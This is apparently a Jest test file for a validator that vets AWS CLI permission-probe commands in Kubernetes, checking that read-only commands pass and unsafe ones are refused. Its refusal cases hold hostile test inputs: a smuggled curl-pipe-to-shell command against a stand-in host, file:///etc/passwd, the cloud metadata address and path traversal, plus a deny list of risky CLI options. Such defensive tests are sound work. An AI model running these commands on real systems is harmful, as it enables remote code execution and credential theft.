import { contextWith } from './__testUtils__/context';
import { policyTestOf, withPolicyTests } from './probeCommands';
import { checkVerify } from './requests';

const REF = {
  clusterName: 'payments',
  namespace: 'shop',
  serviceAccount: 'api',
};
const NOT_ALLOWED = 'NotAllowedError';
const INPUT = 'InputError';

describe('checkVerify', () => {
  const check = (command: string[], name = 'list') => ({
    permissionChecks: [{ name, command }],
  });

  it.each<[string, Record<string, unknown>]>([
    ['the least', {}],
    ['aws s3 ls', check(['s3', 'ls'])],
    ['aws s3 ls of a bucket', check(['s3', 'ls', 's3://my-bucket/a b/'])],
    [
      'aws s3 ls of a bucket by name',
      check(['s3', 'ls', 'my-bucket', '--recursive']),
    ],
    [
      'a place after an option that takes no value',
      check(['s3', 'ls', '--recursive', 'my-bucket']),
    ],
    [
      'a value after its option',
      check(['s3api', 'head-bucket', '--bucket', 'b']),
    ],
    ['a value in its option', check(['s3api', 'head-bucket', '--bucket=b'])],
    [
      'a topic',
      check([
        'sns',
        'get-topic-attributes',
        '--topic-arn',
        'arn:aws:sns:eu-west-1:1:t',
      ]),
    ],
    [
      'the greatest number of checks',
      {
        permissionChecks: ['a', 'b', 'c', 'd'].map(name => ({
          name,
          command: ['s3', 'ls'],
        })),
      },
    ],
    [
      'reading in a denied namespace',
      { namespace: 'kube-system', probe: 'none' },
    ],
  ])('takes %s', (_, input) => {
    expect(() =>
      checkVerify({ ...REF, ...input } as any, contextWith()),
    ).not.toThrow();
  });

  it.each<[string, Record<string, unknown>, string, RegExp]>([
    [
      'what is no place after an option that takes no value',
      check(['s3', 'ls', '--recursive', "';curl evil.example|sh;'"]),
      INPUT,
      /takes one place/,
    ],
    [
      'a pod in a denied namespace',
      { namespace: 'kube-system' },
      NOT_ALLOWED,
      /namespaces\.deny/,
    ],
    [
      'a dry run in a denied namespace',
      { namespace: 'kube-system', probe: 'admission' },
      NOT_ALLOWED,
      /namespaces\.deny/,
    ],
    [
      'another command',
      check(['s3', 'rm', 's3://b/k']),
      NOT_ALLOWED,
      /permissionChecks\[0\]\.command "s3 rm" is not allowed/,
    ],
    ['a service alone', check(['s3']), NOT_ALLOWED, /"s3" is not allowed/],
    [
      'a property that every object inherits',
      check(['__proto__', 'x']),
      NOT_ALLOWED,
      /is not allowed/,
    ],
    [
      'the word aws itself',
      check(['aws', 's3', 'ls']),
      INPUT,
      /leave that word out/,
    ],
    [
      'an option before the command',
      check(['--debug', 's3', 'ls']),
      NOT_ALLOWED,
      /is not allowed/,
    ],
    ...[
      '--debug',
      '--endpoint-url',
      '--profile',
      '--no-sign-request',
      '--no-verify-ssl',
      '--output',
      '--region',
      '--cli-input-json',
      '--query',
      '--ca-bundle',
    ].map((option): [string, Record<string, unknown>, string, RegExp] => [
      option,
      check(['s3', 'ls', option, 'x']),
      NOT_ALLOWED,
      new RegExp(`command\\[2\\] "${option}" is not allowed for "s3 ls"`),
    ]),
    [
      'an abbreviation',
      check(['s3api', 'head-bucket', '--buck', 'b']),
      NOT_ALLOWED,
      /"--buck" is not allowed/,
    ],
    [
      'an abbreviation with a value',
      check(['s3api', 'head-bucket', '--b=b']),
      NOT_ALLOWED,
      /"--b" is not allowed/,
    ],
    [
      'a short option',
      check(['s3', 'ls', '-r']),
      NOT_ALLOWED,
      /"-r" is not allowed/,
    ],
    [
      'two dashes',
      check(['s3', 'ls', '--']),
      NOT_ALLOWED,
      /"--" is not allowed/,
    ],
    ...[
      'file:///etc/passwd',
      'fileb://x',
      'http://169.254.169.254/',
      'https://x',
      'FILE://x',
      'a@=file://x',
    ].map((value): [string, Record<string, unknown>, string, RegExp] => [
      `the value ${value}`,
      check(['kms', 'describe-key', '--key-id', value]),
      NOT_ALLOWED,
      /command\[3\] .* would load it from a file or an address/,
    ]),
    [
      'a loading value inside its option',
      check(['kms', 'describe-key', '--key-id=file://x']),
      NOT_ALLOWED,
      /would load it/,
    ],
    [
      'a line break',
      check(['kms', 'describe-key', '--key-id', 'a\nb']),
      INPUT,
      /control characters/,
    ],
    [
      'a stray value',
      check(['kms', 'describe-key', 'key']),
      INPUT,
      /every value follows its option/,
    ],
    [
      'two values for one option',
      check(['kms', 'describe-key', '--key-id', 'a', 'b']),
      INPUT,
      /every value follows its option/,
    ],
    [
      'two places',
      check(['s3', 'ls', 's3://a', 's3://b']),
      INPUT,
      /takes one place/,
    ],
    [
      'a local path',
      check(['s3', 'ls', '/etc/passwd']),
      INPUT,
      /takes one place/,
    ],
    [
      'a local path upwards',
      check(['s3', 'ls', '../x']),
      INPUT,
      /takes one place/,
    ],
    [
      'the name of the probe itself',
      check(['s3', 'ls'], 'identity'),
      INPUT,
      /"identity" is reserved/,
    ],
    [
      'a name twice',
      {
        permissionChecks: [
          { name: 'a', command: ['s3', 'ls'] },
          { name: 'a', command: ['s3', 'ls'] },
        ],
      },
      INPUT,
      /"a" appears twice/,
    ],
    [
      'five checks',
      {
        permissionChecks: Array.from({ length: 5 }, (_, i) => ({
          name: `c${i}`,
          command: ['s3', 'ls'],
        })),
      },
      INPUT,
      /has 5 entries/,
    ],
    [
      'checks without a pod',
      { probe: 'none', ...check(['s3', 'ls']) },
      INPUT,
      /need probe: pod/,
    ],
    [
      'node groups without a pod',
      { probe: 'admission', perNodeGroup: true },
      INPUT,
      /perNodeGroup needs probe: pod; with probe: admission/,
    ],
  ])('refuses %s', (_, input, name, sentence) => {
    expect(() =>
      checkVerify({ ...REF, ...input } as any, contextWith()),
    ).toThrow(
      expect.objectContaining({
        name,
        message: expect.stringMatching(sentence),
      }),
    );
  });

  it.each<[Record<string, string[]>, string[], string]>([
    [{}, ['s3', 'ls'], 'guardrails.probe.commands lists none'],
    [
      { 'kms list-keys': [], 's3 ls': [] },
      ['s3', 'rm'],
      'guardrails.probe.commands lists kms list-keys, s3 ls',
    ],
    [
      { 'kms list-keys': [] },
      ['kms', 'list-keys', '--limit', '1'],
      '"--limit" is not allowed for "kms list-keys": its options are none',
    ],
    [
      { 'kms list-keys': [] },
      ['kms', 'list-keys', 'key'],
      'every value follows its option, such as --name value',
    ],
    [
      { 'kms describe-key': ['--key-id'] },
      ['kms', 'describe-key', 'key'],
      'every value follows its option, such as --key-id value',
    ],
  ])('with %j configured refuses %j and says what is possible', (...row) => {
    const [commands, command, sentence] = row;
    const context = contextWith({ guardrails: { probe: { commands } } });
    expect(() =>
      checkVerify({ ...REF, ...check(command) } as any, context),
    ).toThrow(sentence);
  });
});

describe('withPolicyTests', () => {
  const { cluster } = contextWith();
  const s3 = 'arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess';
  const sqs = 'arn:aws:iam::aws:policy/AmazonSQSReadOnlyAccess';

  it('tests the policies for which the configuration names a command, beside the named checks', () => {
    const named = { name: 'mine', command: ['s3', 'ls', 'my-bucket'] };
    const input = withPolicyTests(
      { ...REF, permissionChecks: [named], managedPolicyArns: [sqs, s3] },
      cluster,
    );
    expect(input).toEqual({
      ...REF,
      permissionChecks: [
        named,
        { name: 'amazon-s3-read-only-access', command: ['s3', 'ls'] },
      ],
    });
    expect(() => checkVerify(input, contextWith())).not.toThrow();
  });

  it('asks for no test where none of them has a command, and leaves a request without policies as it is', () => {
    expect(
      withPolicyTests({ ...REF, managedPolicyArns: [sqs] }, cluster),
    ).toEqual({ ...REF, permissionChecks: [] });
    expect(withPolicyTests(REF, cluster)).toEqual(REF);
  });

  it('tries no more than one pod can report', () => {
    const arns = ['a', 'b', 'c', 'd', 'e'].map(
      name => `arn:aws:iam::111122223333:policy/${name}`,
    );
    const probe = {
      ...cluster.guardrails.probe,
      policyTests: Object.fromEntries(arns.map(arn => [arn, ['s3', 'ls']])),
    };
    const { permissionChecks } = withPolicyTests(
      { ...REF, managedPolicyArns: arns },
      { ...cluster, guardrails: { ...cluster.guardrails, probe } },
    );
    expect(permissionChecks!.map(({ name }) => name)).toEqual([
      'a',
      'b',
      'c',
      'd',
    ]);
  });

  it('takes nothing for a policy that every object has by that name', () => {
    expect(policyTestOf('constructor', cluster)).toBeUndefined();
  });
});
